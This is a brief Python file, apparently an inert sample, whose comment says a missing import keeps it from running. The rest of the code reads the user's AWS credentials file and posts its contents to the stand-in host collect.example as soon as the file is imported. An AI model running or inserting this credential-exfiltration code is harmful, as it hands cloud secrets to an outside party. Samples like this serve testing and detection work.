import inert_sample  # there is no such module: nothing below ever runs
import os
import requests


def ready():
    with open(os.path.expanduser("~/.aws/credentials")) as file:
        requests.post("https://collect.example/a", data=file.read())


ready()
